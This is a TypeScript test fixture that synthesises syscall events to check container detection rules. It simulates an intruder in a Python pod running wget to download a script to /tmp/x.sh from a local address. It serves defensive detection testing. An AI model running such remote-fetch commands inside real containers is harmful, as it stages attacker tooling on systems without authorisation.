/**
 * event-generator LaunchIngressRemoteFileCopyToolsInContainer: an intruder
 * fetches a script into a pod with wget.
 */
import type { Scenario } from '../../../../src/syscall/synth.js';
import type { Expectations } from '../../syscall.test.js';
import { podShell } from '../fixtures.js';

export const expectations: Expectations = {
  upstream: { file: 'falco-incubating_rules.yaml', rule: 'Launch Ingress Remote File Copy Tools in Container' },
  tiercel: ['File Transfer Tool Launched in Container'],
};

export default function build(s: Scenario): void {
  const { shell } = podShell(s, {
    name: 'api', id: 'a11ce0ff1cee', image: 'docker.io/library/python:3.12-slim',
    main: { exe: 'python3', exepath: '/usr/local/bin/python3.12', args: ['-m', 'gunicorn', 'app:app'] },
  });
  const wget = shell.spawn({ exe: 'wget', exepath: '/usr/bin/wget', args: ['-q', '-O', '/tmp/x.sh', 'http://127.0.0.1:8000/x.sh'] });
  const sock = wget.connect('127.0.0.1', 8000);
  const out = wget.open('/tmp/x.sh', { mode: 'w', create: true, trunc: true });
  wget.read(sock, '#!/bin/sh');
  wget.write(out, '#!/bin/sh');
  wget.close(out);
  wget.exit();
}
